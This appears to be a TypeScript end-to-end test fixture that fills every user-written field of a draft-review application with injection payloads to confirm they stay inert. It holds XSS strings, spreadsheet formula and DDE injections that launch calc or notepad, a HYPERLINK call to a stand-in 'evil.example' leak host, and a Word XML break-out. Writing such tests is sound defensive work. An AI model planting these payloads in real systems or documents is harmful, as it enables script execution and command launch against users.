/**
 * A review whose every user-written text field carries script, HTML and spreadsheet-formula payloads:
 * the admin's and participant's names, the draft's title and text, group names, a finding's quote,
 * rationale and proposal, a consolidated finding, and a comment (written into the room over Yjs the
 * way the editor does).
 */

import WebSocket from 'ws'
import { WebsocketProvider } from 'y-websocket'
import * as Y from 'yjs'
import { addComment } from '../../shared/collab/roomDoc.js'
import { api } from '../e2e/harness.js'
import { waitForDoc, waitForSync } from '../helpers/wsClient.js'

/** The payloads; each must stay inert text wherever it is shown or exported. */
export const PAYLOADS = {
  script: '<script>window.__xss=1;alert(1)</script>',
  img: '<img src=x onerror="window.__xss=1;alert(1)">',
  svg: '"><svg onload=alert(1)>',
  hyperlink: '=HYPERLINK("http://evil.example/?leak","click me")',
  dde: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C notepad'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  wordXml: '</w:t></w:r><w:r><w:t>INJECTED',
  mdLink: '[click](javascript:alert(1))',
} as const

/** One string carrying every payload (for fields that hold a single line). */
export const ALL = Object.values(PAYLOADS).join(' ')

/** The draft: each payload sits inside a part, so findings can quote it. */
export const HOSTILE_DRAFT = [
  `1-modda. Sarlavha ${PAYLOADS.script}`,
  `Vakolatli organ ${PAYLOADS.img} oʻz xohishiga koʻra ruxsat beradi.`,
  `2-modda. Formula ${PAYLOADS.hyperlink}`,
  `Ariza ${PAYLOADS.dde} muddati ${PAYLOADS.wordXml} belgilanadi.`,
].join('\n')

/** What the seeded review exposes to the tests. */
export type HostileSeed = {
  adminToken: string
  participantToken: string
  reviewId: string
  groupId: string
  room: string
  consolidatedRoom: string
  findingId: string
  draftId: string
}

type Res<T> = { status: number; body: T }
const must = <T>(r: Res<T>, status: number, what: string): T => {
  if (r.status !== status) throw new Error(`${what}: ${r.status} ${JSON.stringify(r.body)}`)
  return r.body
}

/** Seed everything through the public API (and one comment over the WebSocket). */
export async function seedHostileReview(url: string, port: number): Promise<HostileSeed> {
  const setup = must(
    await api(url).post<{ token: string }>('/api/setup', {
      name: `Admin ${PAYLOADS.img}`,
      password: 'correct horse battery',
    }),
    201,
    'setup',
  )
  const admin = api(url, setup.token)
  const draft = must(
    await admin.post<{ id: string; versionId: string; units: { id: string; text: string }[] }>(
      '/api/drafts',
      { title: `Draft ${ALL}`, text: HOSTILE_DRAFT },
    ),
    201,
    'draft',
  )
  const review = must(
    await admin.post<{
      id: string
      joinCode: string
      groups: { id: string; room: string }[]
      consolidatedRoom: string
    }>('/api/reviews', {
      title: `Review ${PAYLOADS.script}`,
      draftId: draft.id,
      groups: [`Group ${PAYLOADS.img}`, `Group ${PAYLOADS.hyperlink}`],
    }),
    201,
    'review',
  )
  const group = review.groups[0]!
  const joined = must(
    await api(url).post<{ token: string; user: { id: string; name: string } }>('/api/join', {
      code: review.joinCode,
      name: `Olim ${PAYLOADS.svg}`,
      groupId: group.id,
    }),
    201,
    'join',
  )
  const participant = api(url, joined.token)
  const findingsUrl = `/api/reviews/${review.id}/groups/${group.id}/findings`
  let findingId = ''
  for (const [key, quote] of Object.entries(PAYLOADS)) {
    const unit = draft.units.find((u) => u.text.includes(quote))
    if (!unit) continue
    const f = must(
      await participant.post<{ id: string }>(findingsUrl, {
        unitId: unit.id,
        quote,
        factorIds: [],
        rationale: `${PAYLOADS[key as keyof typeof PAYLOADS]} ${ALL}`,
        proposal: ALL,
      }),
      201,
      `finding on ${key}`,
    )
    findingId ||= f.id
  }
  must(
    await admin.post(`/api/reviews/${review.id}/consolidated/findings`, {
      from: [findingId],
      rationale: `Merged ${ALL}`,
      proposal: PAYLOADS.dde,
    }),
    201,
    'merge',
  )
  const author = { id: joined.user.id, name: joined.user.name }
  await writeComment(
    `ws://127.0.0.1:${port}/collab`,
    group.room,
    joined.token,
    author,
    findingId,
    `Comment ${ALL}`,
  )
  return {
    adminToken: setup.token,
    participantToken: joined.token,
    reviewId: review.id,
    groupId: group.id,
    room: group.room,
    consolidatedRoom: review.consolidatedRoom,
    findingId,
    draftId: draft.id,
  }
}

/** Add a comment to a finding through the room, as the editor does, and wait until the server has it. */
async function writeComment(
  wsBase: string,
  room: string,
  token: string,
  author: { id: string; name: string },
  findingId: string,
  text: string,
): Promise<void> {
  const doc = new Y.Doc()
  const provider = new WebsocketProvider(wsBase, room, doc, {
    WebSocketPolyfill: WebSocket as unknown as typeof globalThis.WebSocket,
    params: { token },
    disableBc: true,
  })
  try {
    await waitForSync(provider, 15_000)
    addComment(doc, {
      id: `c-${Date.now()}`,
      findingId,
      parentId: null,
      // The server refuses a comment signed as anyone but the connection's user (issue 16).
      author,
      text,
      createdAt: new Date().toISOString(),
    })
    // A second client seeing the comment proves the server applied it.
    const check = new Y.Doc()
    const watcher = new WebsocketProvider(wsBase, room, check, {
      WebSocketPolyfill: WebSocket as unknown as typeof globalThis.WebSocket,
      params: { token },
      disableBc: true,
    })
    try {
      await waitForSync(watcher, 15_000)
      await waitForDoc(
        check,
        () =>
          check
            .getArray('comments')
            .toArray()
            .some((c) => (c as { text?: string }).text === text),
        10_000,
      )
    } finally {
      watcher.destroy()
    }
  } finally {
    provider.destroy()
  }
}
